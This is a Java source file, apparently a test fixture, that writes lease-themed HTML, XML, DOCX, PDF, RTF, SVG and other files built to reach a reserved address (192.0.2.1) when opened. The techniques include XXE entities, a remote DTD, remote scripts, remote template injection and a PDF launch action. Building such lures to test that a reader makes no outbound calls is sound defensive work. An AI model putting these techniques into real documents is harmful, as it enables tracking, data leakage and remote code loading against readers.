package stillroom.app;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/// Documents that try to reach out when they are opened: to 192.0.2.1, which belongs to nobody.
final class Lures {

    private static final String OUT = "http://192.0.2.1/";

    private Lures() {}

    /// Writes `count` documents of every kind in turn into a folder.
    ///
    /// @param words put into each text
    static void write(Path folder, int count, String words) throws IOException {
        Files.createDirectories(folder);
        for (int i = 0; i < count; i++) {
            var text = words + " The parties of lease number " + i + " agree on the rent.";
            switch (i % 10) {
                case 0 -> write(folder, i + ".html", html(text));
                case 1 ->
                        write(
                                folder,
                                i + ".xml",
                                "<?xml version=\"1.0\"?><!DOCTYPE d [<!ENTITY out SYSTEM \""
                                        + OUT
                                        + "e\"> <!ENTITY % dtd SYSTEM \""
                                        + OUT
                                        + "d.dtd\"> %dtd;]><d>"
                                        + text
                                        + " &out;</d>");
                case 2 -> Files.write(folder.resolve(i + ".docx"), docx(text));
                case 3 -> write(folder, i + ".pdf", pdf(text));
                case 4 ->
                        write(
                                folder,
                                i + ".eml",
                                "From: a@a.example\r\nTo: b@b.example\r\nSubject: lease "
                                        + i
                                        + "\r\nMIME-Version: 1.0\r\nContent-Type: text/html;"
                                        + " charset=utf-8\r\n\r\n"
                                        + html(text));
                case 5 ->
                        write(
                                folder,
                                i + ".rtf",
                                "{\\rtf1\\ansi {\\*\\template "
                                        + OUT
                                        + "t.dot}{\\field{\\*\\fldinst INCLUDEPICTURE \""
                                        + OUT
                                        + "p.png\"}} "
                                        + text
                                        + "}");
                case 6 -> write(folder, i + ".md", "# Lease\n\n![x](" + OUT + "p.png)\n\n" + text);
                case 7 -> write(folder, i + ".csv", "what,where\n\"" + text + "\"," + OUT + "\n");
                case 8 ->
                        write(
                                folder,
                                i + ".svg",
                                "<svg xmlns=\"http://www.w3.org/2000/svg\"><image href=\""
                                        + OUT
                                        + "i.png\"/><text>"
                                        + text
                                        + "</text></svg>");
                default -> write(folder, i + ".txt", text);
            }
        }
    }

    private static void write(Path folder, String name, String text) throws IOException {
        Files.writeString(folder.resolve(name), text);
    }

    private static String html(String text) {
        return "<html><head><link rel=stylesheet href=\""
                + OUT
                + "s.css\"><script src=\""
                + OUT
                + "s.js\"></script><base href=\""
                + OUT
                + "\"></head><body><img src=\"p.png\"><iframe src=\""
                + OUT
                + "\"></iframe><p>"
                + text
                + "</p></body></html>";
    }

    /// With a template and a picture that lie elsewhere, and an external entity in its text.
    private static byte[] docx(String text) throws IOException {
        var bytes = new ByteArrayOutputStream();
        try (var zip = new ZipOutputStream(bytes)) {
            entry(
                    zip,
                    "[Content_Types].xml",
                    "<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
                            + "<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
                            + "<Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/>"
                            + "<Override PartName=\"/word/settings.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml\"/></Types>");
            entry(
                    zip,
                    "_rels/.rels",
                    "<?xml version=\"1.0\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
                            + "<Relationship Id=\"r1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\" Target=\"word/document.xml\"/></Relationships>");
            entry(
                    zip,
                    "word/_rels/document.xml.rels",
                    "<?xml version=\"1.0\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
                            + "<Relationship Id=\"r2\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/settings\" Target=\"settings.xml\"/>"
                            + "<Relationship Id=\"r3\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/image\" Target=\""
                            + OUT
                            + "p.png\" TargetMode=\"External\"/></Relationships>");
            entry(
                    zip,
                    "word/_rels/settings.xml.rels",
                    "<?xml version=\"1.0\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
                            + "<Relationship Id=\"r4\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\""
                            + OUT
                            + "t.dotm\" TargetMode=\"External\"/></Relationships>");
            entry(
                    zip,
                    "word/settings.xml",
                    "<?xml version=\"1.0\"?><w:settings xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"><w:attachedTemplate r:id=\"r4\"/></w:settings>");
            entry(
                    zip,
                    "word/document.xml",
                    "<?xml version=\"1.0\"?><w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body><w:p><w:r><w:t>"
                            + text
                            + "</w:t></w:r></w:p></w:body></w:document>");
            entry(
                    zip,
                    "customXml/item1.xml",
                    "<?xml version=\"1.0\"?><!DOCTYPE d [<!ENTITY out SYSTEM \""
                            + OUT
                            + "e\">]><d>&out;</d>");
        }
        return bytes.toByteArray();
    }

    private static void entry(ZipOutputStream zip, String name, String text) throws IOException {
        zip.putNextEntry(new ZipEntry(name));
        zip.write(text.getBytes(StandardCharsets.UTF_8));
        zip.closeEntry();
    }

    /// With actions on opening: to go to an address and to start a program.
    private static String pdf(String text) {
        var stream = "BT /F1 12 Tf 72 720 Td (" + text + ") Tj ET";
        return "%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/URI/URI("
                + OUT
                + ")/Next<</S/Launch/F(/bin/true)>>>>>>endobj\n"
                + "2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
                + "3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R"
                + "/Resources<</Font<</F1 5 0 R>>>>/Annots[<</Type/Annot/Subtype/Link"
                + "/Rect[0 0 9 9]/A<</S/URI/URI("
                + OUT
                + ")>>>>]>>endobj\n4 0 obj<</Length "
                + stream.length()
                + ">>stream\n"
                + stream
                + "\nendstream endobj\n"
                + "5 0 obj<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>endobj\n"
                + "trailer<</Root 1 0 R>>\n%%EOF\n";
    }
}
